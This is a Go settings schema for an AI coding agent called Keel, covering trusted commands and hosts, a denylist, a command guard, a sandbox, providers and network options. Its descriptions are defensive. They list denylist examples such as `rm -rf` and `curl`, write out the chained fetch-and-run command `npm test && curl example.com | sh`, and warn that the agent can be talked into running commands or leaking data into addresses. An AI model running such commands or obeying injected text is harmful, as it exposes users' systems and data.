package settings

import (
	"slices"
)

// Keys of Keel's own settings.
const (
	KeyMode            = "keelAgent.mode"
	KeyTrustedCommands = "keelAgent.trustedCommands"
	KeyTrustedHosts    = "keelAgent.trustedHosts"
	KeyCommandDenylist = "keelAgent.commandDenylist"
	KeyCommandGuard    = "keelAgent.commandGuard"
	KeySandbox         = "keelAgent.sandbox"
	KeyEnvironment     = "keelAgent.commandEnvironment"
	KeyProvider        = "keelAgent.provider"
	KeyModel           = "keelAgent.model"
	KeyBedrockRegion   = "keelAgent.bedrock.region"
	KeyBedrockProfile  = "keelAgent.bedrock.profile"
	KeyBedrockModels   = "keelAgent.bedrock.models"
	KeyOpenAIEndpoints = "keelAgent.openai.endpoints"
	KeyOpenAIModels    = "keelAgent.openai.models"
	KeyOllamaContext   = "keelAgent.ollama.contextTokens"
	KeyPrices          = "keelAgent.prices"
	KeyGitHubClientIDs = "keelAgent.accounts.githubClientIds"
	KeyGoogleClientID  = "keelAgent.accounts.googleClientId"
	KeyBedrockRole     = "keelAgent.bedrock.googleRole"
	KeyProxy           = "keelAgent.network.proxy"
	KeyNoProxy         = "keelAgent.network.noProxy"
	KeyCertificates    = "keelAgent.network.certificates"

	KeyGallery          = "keelExtensions.gallery"
	KeyExtensionNetwork = "keelExtensions.network"

	KeyUpdateCheck = "keelUpdate.check"
)

// Values of [KeyUpdateCheck].
const (
	UpdatesOff   = "off"
	UpdatesDaily = "daily"
)

const (
	modeAutopilot  = "autopilot"
	modeSupervised = "supervised"
)

// Type is the shape of a setting's value.
type Type string

const (
	TypeString      Type = "string"
	TypeStringArray Type = "stringArray"
	TypeEnum        Type = "enum"      // a string of [Property].Enum
	TypeStringMap   Type = "stringMap" // an object of strings
	TypeInteger     Type = "integer"
	TypeBoolean     Type = "boolean"
)

// Scope is where a setting counts.
type Scope string

const (
	// ScopeApplication: the user's own settings only.
	ScopeApplication Scope = "application"
	// ScopeWindow: an opened folder's settings have a say too, if only to
	// tighten.
	ScopeWindow Scope = "window"
)

// Property describes one setting, for the settings editor and the check.
type Property struct {
	Key              string
	Type             Type
	Title            string // as the settings editor derives it from Key
	Description      string // Markdown
	Default          string // JSON
	Enum             []string
	EnumDescriptions []string // Markdown, one for each of Enum
	Prefix           string   // an enum also takes what begins with it; empty: nothing else
	Minimum, Maximum int64    // of an integer
	Scope            Scope

	// check says what is wrong with an item of a map or of a list, which has no
	// name, or nothing; nil: nothing is.
	check func(name, text string) string
	// warn says what is wrong with a string, and what that means; it counts all the
	// same. Nil: nothing is.
	warn func(text string) string
}

// Schema returns Keel's own settings in the order a person meets them.
func Schema() []Property {
	return []Property{
		{
			Key:   KeyMode,
			Type:  TypeEnum,
			Title: "Keel Agent: Mode",
			Description: "When the agent asks before it changes files. The switch beside the chat's input changes it for one session; this is what a new session starts with.\n\n" +
				"In both modes a command asks first unless it is trusted (`#keelAgent.trustedCommands#`), every change can be reverted, and Stop interrupts at any moment. " +
				"An opened folder can ask for supervised mode, never for autopilot.",
			Default: `"autopilot"`,
			Enum:    []string{modeAutopilot, modeSupervised},
			EnumDescriptions: []string{
				"The agent creates, edits, moves and deletes files inside the opened folder without asking.",
				"Each file change is shown as a diff and waits until you accept or reject it.",
			},
			Scope: ScopeWindow,
		},
		{
			Key:         KeyTrustedCommands,
			Type:        TypeStringArray,
			Title:       "Keel Agent: Trusted Commands",
			Description: trustedCommandsDescription,
			Default:     `[]`,
			Scope:       ScopeApplication,
		},
		{
			Key:         KeyTrustedHosts,
			Type:        TypeStringArray,
			Title:       "Keel Agent: Trusted Hosts",
			Description: trustedHostsDescription,
			Default:     `[]`,
			Scope:       ScopeApplication,
			check:       checkHost,
		},
		{
			Key:         KeyCommandDenylist,
			Type:        TypeStringArray,
			Title:       "Keel Agent: Command Denylist",
			Description: commandDenylistDescription,
			Default:     `[]`,
			Scope:       ScopeWindow,
		},
		{
			Key:         KeyCommandGuard,
			Type:        TypeBoolean,
			Title:       "Keel Agent: Command Guard",
			Description: commandGuardDescription,
			Default:     `true`,
			Scope:       ScopeWindow,
		},
		{
			Key:         KeySandbox,
			Type:        TypeBoolean,
			Title:       "Keel Agent: Sandbox",
			Description: sandboxDescription,
			Default:     `true`,
			Scope:       ScopeWindow,
		},
		{
			Key:         KeyEnvironment,
			Type:        TypeStringArray,
			Title:       "Keel Agent: Command Environment",
			Description: commandEnvironmentDescription,
			Default:     `[]`,
			Scope:       ScopeApplication,
		},
		{
			Key:         KeyProvider,
			Type:        TypeEnum,
			Title:       "Keel Agent: Provider",
			Description: "The service whose model answers in a new session.",
			Default:     `""`,
			Enum:        []string{"", "bedrock", "ollama", "lmstudio", "llamacpp", "vllm", "github-models", "practice"},
			EnumDescriptions: []string{
				"A model server that runs on this machine, else the practice model; Amazon Bedrock once `#keelAgent.model#` names one of its models.",
				"Amazon Bedrock, with your AWS credentials. See `#keelAgent.bedrock.region#` and `#keelAgent.bedrock.profile#`.",
				"Ollama on this machine, or at the address in `OLLAMA_HOST`.",
				"LM Studio on this machine, at port 1234.",
				"llama.cpp's server on this machine, at port 8080.",
				"vLLM on this machine, at port 8000.",
				"GitHub Models, with a GitHub token. Its free tier takes 8,000 tokens in, which is enough for small tasks.",
				"The built-in practice model: no account and no network. It follows a small set of plain requests and is no real model.",
			},
			Prefix: "openai:", // and the name of one of KeyOpenAIEndpoints
			Scope:  ScopeApplication,
		},
		{
			Key:         KeyModel,
			Type:        TypeString,
			Title:       "Keel Agent: Model",
			Description: "The id of the model that answers in a new session, as the model picker in the chat shows it. Empty: the provider's own choice.",
			Default:     `""`,
			Scope:       ScopeApplication,
		},
		{
			Key:   KeyBedrockRegion,
			Type:  TypeString,
			Title: "Keel Agent › Bedrock: Region",
			Description: "The AWS region whose models are used, for example `eu-central-1`. Empty: the region of the profile, or `AWS_REGION`.\n\n" +
				"A model has to be enabled for your account in this region.",
			Default: `""`,
			Scope:   ScopeApplication,
		},
		{
			Key:   KeyBedrockProfile,
			Type:  TypeString,
			Title: "Keel Agent › Bedrock: Profile",
			Description: "The profile in `~/.aws/config` whose credentials are used. Empty: an account that is switched on for Amazon Bedrock (*Keel: Show Accounts*), else a Bedrock API key, else whatever the AWS tools would use (environment, default profile, instance role).\n\n" +
				"Keys and tokens never go into settings.",
			Default: `""`,
			Scope:   ScopeApplication,
		},
		{
			Key:   KeyBedrockModels,
			Type:  TypeStringArray,
			Title: "Keel Agent › Bedrock: Models",
			Description: "Ids of models or inference profiles that the model picker offers beside the ones your account lists, " +
				"for example `eu.anthropic.claude-sonnet-4-5-20250929-v1:0` or a profile's ARN. Newer models are reached only through an inference profile, whose id begins with `us.`, `eu.`, `apac.` or `global.`.",
			Default: `[]`,
			Scope:   ScopeApplication,
		},
		{
			Key:   KeyOpenAIEndpoints,
			Type:  TypeStringMap,
			Title: "Keel Agent › Openai: Endpoints",
			Description: "Services that speak OpenAI's Chat Completions, each a name and the address before `/chat/completions`, for example `\"work\": \"https://llm.example.com/v1\"`. " +
				"Each is offered in the model picker; its id for `#keelAgent.provider#` is `openai:` and the name.\n\n" +
				"Keys never go into settings: enter them in the model picker, which keeps them in the system's keychain. A key belongs to the address that it was entered for. " +
				"For an endpoint named `openai` the variable `OPENAI_API_KEY` counts as well.",
			Default: `{}`,
			Scope:   ScopeApplication,
			check:   checkEndpoint,
		},
		{
			Key:         KeyOpenAIModels,
			Type:        TypeStringArray,
			Title:       "Keel Agent › Openai: Models",
			Description: "Ids of models that are offered for those of `#keelAgent.openai.endpoints#` that do not list their models.",
			Default:     `[]`,
			Scope:       ScopeApplication,
		},
		{
			Key:   KeyOllamaContext,
			Type:  TypeInteger,
			Title: "Keel Agent › Ollama: Context Tokens",
			Description: "How many tokens of a conversation a model of Ollama keeps in view at most. A model that can take less gets what it can. " +
				"More lets the agent see more at once, takes more memory, and is slower.",
			Default: `32768`,
			Minimum: 2048,
			Maximum: 4 << 20,
			Scope:   ScopeApplication,
		},
		{
			Key:   KeyPrices,
			Type:  TypeStringMap,
			Title: "Keel Agent: Prices",
			Description: "What models cost, in US dollars for a million tokens, where Keel does not know it or your price is another one: " +
				"the model's id, and `input / output / cache read / cache write`, for example `\"us.anthropic.claude-sonnet-4-20250514-v1:0\": \"3 / 15 / 0.30 / 3.75\"`. " +
				"What is left out at the end costs as much as input. With the provider's id and a slash before it, such as `openai:work/gpt`, a price counts for that provider only.",
			Default: `{}`,
			Scope:   ScopeApplication,
			check:   checkPrice,
		},
		{
			Key:   KeyGitHubClientIDs,
			Type:  TypeStringMap,
			Title: "Keel Agent › Accounts: Github Client Ids",
			Description: "The client ids that Keel signs in to GitHub with: the host, and the id of an OAuth app there that has the device flow switched on, for example `\"github.com\": \"Ov23li…\"`. " +
				"The name of a GitHub Enterprise host adds it to the places to sign in at.\n\n" +
				"A client id is no secret. A client secret never goes into settings: the Accounts page (*Keel: Show Accounts*) keeps it where your tokens are.",
			Default: `{}`,
			Scope:   ScopeApplication,
		},
		{
			Key:   KeyGoogleClientID,
			Type:  TypeString,
			Title: "Keel Agent › Accounts: Google Client Id",
			Description: "The client id that Keel signs in to Google with: that of an OAuth client of the type *Desktop app*. It ends in `.apps.googleusercontent.com`.\n\n" +
				"Its client secret never goes into settings: the Accounts page (*Keel: Show Accounts*) keeps it where your tokens are.",
			Default: `""`,
			Scope:   ScopeApplication,
		},
		{
			Key:         KeyBedrockRole,
			Type:        TypeString,
			Title:       "Keel Agent › Bedrock: Google Role",
			Description: "The ARN of the AWS role that your Google account is exchanged for, for example `arn:aws:iam::123456789012:role/keel`. Its trust policy has to allow `sts:AssumeRoleWithWebIdentity` for `accounts.google.com`, and should pin `accounts.google.com:aud` to the client id and `accounts.google.com:sub` to your account.",
			Default:     `""`,
			Scope:       ScopeApplication,
		},
		{
			Key:   KeyProxy,
			Type:  TypeString,
			Title: "Keel Agent › Network: Proxy",
			Description: "The address of the proxy through which Keel reaches other machines, for example `http://proxy.example.com:3128`. Empty: the variables `HTTPS_PROXY`, `HTTP_PROXY` and `NO_PROXY` count.\n\n" +
				"`http`, `https` and `socks5` are understood, with a name and a password as in `http://name:password@host:port`. This machine is always reached without a proxy. Commands and terminals keep to their environment.",
			Default: `""`,
			Scope:   ScopeApplication,
			warn:    warnOfProxy,
		},
		{
			Key:         KeyNoProxy,
			Type:        TypeStringArray,
			Title:       "Keel Agent › Network: No Proxy",
			Description: "Hosts that are reached without a proxy, in the form of `NO_PROXY`: for example `llm.example.com`, which takes in the hosts below it, `.internal.example.com`, `10.0.0.0/8`, or `*` for all.",
			Default:     `[]`,
			Scope:       ScopeApplication,
		},
		{
			Key:   KeyCertificates,
			Type:  TypeStringArray,
			Title: "Keel Agent › Network: Certificates",
			Description: "Files in PEM form with the certificates of further authorities that Keel trusts beside the system's, for example `/etc/ssl/company.pem` or `~/company.pem`. " +
				"They count for signing in, models and web pages, not for commands. Those in `SSL_CERT_FILE` and `SSL_CERT_DIR` count as well.",
			Default: `[]`,
			Scope:   ScopeApplication,
			check:   checkCertificates,
		},
		{
			Key:   KeyGallery,
			Type:  TypeString,
			Title: "Keel Extensions: Gallery",
			Description: "The registry that extensions come from: Open VSX, or the address of one that serves the same interface, such as a company's mirror (`https://extensions.example.com`). " +
				"The server itself may be in your own network; what it leads on to has to be public. Keel alone speaks with it, through `#keelAgent.network.proxy#`.\n\n" +
				"Only your own settings count; an opened folder cannot choose a registry.",
			Default: `"https://open-vsx.org"`,
			Scope:   ScopeApplication,
			warn:    warnOfGallery,
		},
		{
			Key:   KeyExtensionNetwork,
			Type:  TypeBoolean,
			Title: "Keel Extensions: Network",
			Description: "Whether extensions may use the network, over https and wss. Without it they work with what is on this machine alone; those that are for a service do nothing.\n\n" +
				"Only your own settings count. It counts from the next reload of the window on.",
			Default: `true`,
			Scope:   ScopeApplication,
		},
		{
			Key:   KeyUpdateCheck,
			Type:  TypeEnum,
			Title: "Keel Update: Check",
			Description: "Whether Keel looks for a newer version by itself. It asks for one file and its signature, and tells nothing of you or your machine but the network address that any request comes from. " +
				"What it finds is told once; nothing is downloaded or installed before you have agreed to it. *Keel: Check for Updates* looks at any time.\n\n" +
				"Only your own settings count. A Keel that was built from source has no feed to look at.",
			Default:          `"off"`,
			Enum:             []string{UpdatesOff, UpdatesDaily},
			EnumDescriptions: []string{"Only when you ask for it.", "Once a day, while a window is open."},
			Scope:            ScopeApplication,
		},
	}
}

func propertyOf(key string) (Property, bool) {
	all := Schema()
	i := slices.IndexFunc(all, func(p Property) bool { return p.Key == key })
	if i < 0 {
		return Property{}, false
	}
	return all[i], true
}

const trustedCommandsDescription = "Commands that the agent may run without asking. With an empty list every command asks first. " +
	"[Edit them with their use, and try out what would run](command:keel.editTrustedCommands).\n\n" +
	"A command is trusted when one pattern matches the whole of it:\n\n" +
	"- `npm install` trusts exactly that command, and not `npm install left-pad`.\n" +
	"- `npm *` trusts `npm` alone and everything that begins with `npm ` — also `npm run` with whatever the folder's `package.json` says. The star has to be at the end, after a space.\n" +
	"- `*` trusts every command.\n\n" +
	"`#keelAgent.commandDenylist#` is looked at first: what it matches always asks, trusted or not.\n\n" +
	"Examples: `go test ./...`, `git status`, `git log *`, `npm run lint`.\n\n" +
	"**Warning:** with `*` nothing is asked any more. The agent reads files and output that others wrote and can be talked into running anything you could run yourself. Prefer whole commands, then narrow prefixes; never trust a shell or an interpreter (`bash *`, `python *`, `node *`) or a launcher (`sudo *`, `env *`, `xargs *`, `npx *`) by its prefix.\n\n" +
	"They count in folders that you have trusted. Only your own settings count; an opened folder cannot trust commands."

const trustedHostsDescription = "Hosts of the web from which the agent may fetch pages without asking. With an empty list it asks for each address. An address that you put into a message yourself is never asked about.\n\n" +
	"- `docs.python.org` trusts exactly that host.\n" +
	"- `*.example.com` trusts every host below `example.com`, and not `example.com` itself.\n" +
	"- `http://example.com` trusts it without encryption; `example.com:8443` at another port. Else only https at the usual port counts.\n\n" +
	"Where a page leads on to another host, the agent is told, and asks for that address anew. What would be read with your sign-in always asks.\n\n" +
	"**Warning:** the agent can be talked into putting what it has read into an address. Trust hosts whose visits nobody else can look at: places for documentation, not places where anybody can publish.\n\n" +
	"Only your own settings count; an opened folder cannot trust hosts."

const commandDenylistDescription = "Texts that make a command ask, however it is trusted: a command that contains one of them anywhere always asks first. It is looked at before `#keelAgent.trustedCommands#`.\n\n" +
	"Examples: `rm -rf`, `git push`, `--force`, `curl`, `sudo`.\n\n" +
	"A text matches as it is, without wildcards, and distinguishes upper from lower case. An opened folder can add to this list and cannot take anything away."

const commandGuardDescription = "Looks into a command that a trusted prefix such as `npm *` matches, and asks after all where it holds more than the prefix shows: " +
	"a second command, a substitution, a redirect, an option that runs another program or writes somewhere else. A pattern that is the whole command, and `*`, are not looked into.\n\n" +
	"Without it, `npm *` also runs `npm test && curl example.com | sh` unasked. An opened folder can switch it on, never off."

const sandboxDescription = "Runs the agent's commands in a sandbox, where this system has one (Linux with Landlock): they can write to the opened folder, to temporary folders and to the caches of common tools, " +
	"and nowhere else; not to Keel's own data, its checkpoints and your other files. `keel doctor` and *Keel: Show What the Agent Can Access* say whether it works here.\n\n" +
	"Without it, a command that runs can do whatever you could. An opened folder can switch it on, never off."

const commandEnvironmentDescription = "Names of environment variables that the agent's commands get beside those that tools commonly need, for example `AWS_PROFILE` or `DATABASE_URL`.\n\n" +
	"Credentials (`AWS_*`, names that end in `_TOKEN`, `_SECRET`, `_KEY` or `_PASSWORD`) reach commands only when they are named here: what a command can read, the model can read. " +
	"Variables that change the shell itself, such as `BASH_ENV` and `LD_PRELOAD`, are never passed on."
